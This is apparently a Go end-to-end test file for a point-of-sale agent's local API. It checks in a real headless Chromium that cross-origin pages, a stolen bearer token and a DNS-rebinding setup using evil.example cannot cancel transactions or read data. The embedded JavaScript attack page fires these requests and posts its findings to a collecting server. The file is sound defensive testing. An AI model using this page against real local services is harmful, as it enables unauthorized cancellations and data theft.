package operation

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"pdvagent/agent/agenttest"
	"pdvagent/cmd/internal/e2e"
)

// tries is what a page does to the agent; it reports what it was able to read.
const tries = `<!DOCTYPE html><title>caixa web</title><script>
const agent = %q, token = %q, report = {};
async function attempt(name, path, init) {
  try {
    const response = await fetch(agent + path, init);
    report[name] = response.type === "opaque" ? "opaque" : response.status + " " + (await response.text()).slice(0, 80);
    if (name === "sale") report.delivery = response.headers.get("X-Agent-Delivery");
  } catch (failure) { report[name] = "blocked"; }
}
(async () => {
  const headers = {"Authorization": "Bearer " + token, "Content-Type": "application/json"};
  await attempt("health", "/health", {});
  await attempt("status", "/v1/sales/K", {headers});
  await attempt("sale", "/v2/transaction/cancel", {method: "POST", headers, body: JSON.stringify({transaction_id: %q})});
  await attempt("form", "/v2/transaction/cancel", {method: "POST", mode: "no-cors", body: "transaction_id=FORM"});
  await attempt("simple", "/v2/transaction/cancel", {method: "POST", headers: {"Content-Type": "text/plain"}, body: "{\"transaction_id\":\"SIMPLE\"}"});
  await attempt("image", "/docs", {mode: "no-cors"});
  await new Promise(done => { const socket = new WebSocket(agent.replace("http", "ws") + "/health"); socket.onopen = () => { report.socket = "open"; done(); }; socket.onerror = () => { report.socket = "blocked"; done(); }; });
  await fetch("%s/report", {method: "POST", mode: "no-cors", body: JSON.stringify(report)});
})();
</script>`

// page is a web server with such a page; it hands over what the page reported.
type page struct {
	*httptest.Server
	reports chan map[string]string
	content atomic.Value // text
}

func newPage(t *testing.T) *page {
	t.Helper()
	p := &page{reports: make(chan map[string]string, 1)}
	p.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/report" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, p.content.Load())
			return
		}
		var report map[string]string
		if err := json.NewDecoder(r.Body).Decode(&report); err != nil {
			t.Errorf("report: %v", err)
		}
		p.reports <- report
	}))
	t.Cleanup(p.Close)
	return p
}

// browse opens an address in a real Chromium until a page reports.
func browse(t *testing.T, address string, reports <-chan map[string]string, flags ...string) map[string]string {
	t.Helper()
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		agenttest.Missing(t, "chromium")
	}
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	flags = append([]string{
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--user-data-dir=" + e2e.Profile(t),
	}, flags...)
	browser := exec.CommandContext(ctx, chromium, append(flags, address)...)
	browser.WaitDelay = 5 * time.Second
	if err := browser.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		cancel()
		_ = browser.Wait() // it was killed
	}()
	select {
	case report := <-reports:
		return report
	case <-ctx.Done():
		t.Fatal("the page reported nothing")
		return nil
	}
}

func wantReport(t *testing.T, got map[string]string, want map[string]string) {
	t.Helper()
	for name, begin := range want {
		if !strings.HasPrefix(got[name], begin) {
			t.Errorf("%s: got %q, want %q", name, got[name], begin)
		}
	}
}

// cancelled tells which cancels reached the queue: a page that may not must leave nothing behind.
func cancelled(s *e2e.Site) string {
	s.Helper()
	return s.Call(http.MethodGet, "/v1/queue?kind=cancel", e2e.SupportToken, "").Body
}

// A web till on another loopback port, named in api.allowed_origins: with preflight, it sells as any till.
func TestWebTillThatIsAllowedSellsInARealBrowser(t *testing.T) {
	p := newPage(t)
	s := e2e.NewSite(t, "allowed_origins: []  ", "allowed_origins: ["+p.URL+"]  ").Start()
	p.content.Store(fmt.Sprintf(tries, s.Base, e2e.TillToken, "ALLOWED", p.URL))
	report := browse(t, p.URL, p.reports)
	wantReport(t, report, map[string]string{
		"health": `200 {"status":"ok"`, "status": "404 {", "sale": `202 {"status":"queued"`, "simple": "401 {", "form": "opaque", "image": "opaque", "socket": "blocked", "delivery": "queued",
	})
	if cancels := cancelled(s); !strings.Contains(cancels, `"ALLOWED"`) || strings.Contains(cancels, "FORM") || strings.Contains(cancels, "SIMPLE") {
		t.Errorf("the queue has %s", cancels)
	}
}

// Any other page of this machine reads nothing and leaves nothing, even with a token it has got hold of.
func TestPageThatIsNotAllowedGetsNothingInARealBrowser(t *testing.T) {
	p := newPage(t)
	s := e2e.NewSite(t).Start()
	p.content.Store(fmt.Sprintf(tries, s.Base, e2e.TillToken, "STOLEN", p.URL))
	report := browse(t, p.URL, p.reports)
	wantReport(t, report, map[string]string{"health": "blocked", "status": "blocked", "sale": "blocked", "simple": "blocked", "socket": "blocked"})
	if cancels := cancelled(s); cancels != "{\"jobs\":[]}\n" {
		t.Errorf("the queue has %s", cancels)
	}
}

// DNS rebinding: the browser loads the page of evil.example, whose name then means this machine; to the browser the
// agent is that page's own server. A proxy plays the name server that changes its mind.
func TestRebindingPageGetsNothingInARealBrowser(t *testing.T) {
	p := newPage(t)
	s := e2e.NewSite(t).Start()
	_, port, err := net.SplitHostPort(strings.TrimPrefix(s.Base, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	evil := "http://evil.example:" + port
	p.content.Store(fmt.Sprintf(tries, evil, e2e.TillToken, "REBOUND", evil))
	attacker, victim := e2e.ParseURL(t, p.URL), e2e.ParseURL(t, s.Base)
	asked := make(chan string, 100)
	names := httptest.NewServer(&httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		asked <- r.In.URL.Path
		r.Out.URL.Scheme = "http"
		target := victim
		if r.In.URL.Path == "/" || r.In.URL.Path == "/report" {
			target = attacker
		}
		r.Out.URL.Host, r.Out.Host = target.Host, r.In.Host // the name in the Host header stays evil
	}})
	defer names.Close()
	report := browse(t, evil+"/", p.reports, "--proxy-server="+names.URL)
	wantReport(t, report, map[string]string{"health": "421 {", "status": "421 {", "sale": "421 {", "simple": "421 {"})
	for name, got := range report {
		if strings.HasPrefix(got, "2") {
			t.Errorf("%s: got %q", name, got)
		}
	}
	if cancels := cancelled(s); cancels != "{\"jobs\":[]}\n" || len(asked) < 5 {
		t.Errorf("the queue has %s, the proxy was asked %d times", cancels, len(asked))
	}
}

// The documentation works in a browser, under its own policy, and calls the agent.
func TestDocumentationIsReadInARealBrowser(t *testing.T) {
	s := e2e.NewSite(t).Start()
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		agenttest.Missing(t, "chromium")
	}
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	out, err := exec.CommandContext(ctx, chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--user-data-dir="+e2e.Profile(t), "--virtual-time-budget=20000", "--dump-dom", s.Base+"/docs").Output()
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"/v2/transaction/start", "Identifica o cliente e abre a transação", "/v1/members/forget"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("the page does not show %s", want)
		}
	}
}
